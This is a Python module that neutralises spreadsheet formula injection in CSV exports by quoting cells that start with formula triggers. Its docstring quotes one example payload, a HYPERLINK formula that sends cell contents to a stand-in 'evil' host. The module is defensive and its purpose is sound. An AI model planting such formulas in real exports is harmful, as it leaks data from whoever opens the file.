"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (and a tab or carriage
return before them) as a formula: `=HYPERLINK("http://evil/?"&A2, "Click")` typed into a public
form would run on a reviewer's machine when they open the export. Such cells are prefixed with a
single quote, which spreadsheets show as text; numbers (including negative ones) stay numbers.
"""

import csv
import re
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*%?", re.ASCII)


def spreadsheet_safe(value):
    """The cell as text a spreadsheet shows as it is: formula triggers get a leading quote."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer whose rows are passed through `spreadsheet_safe`."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
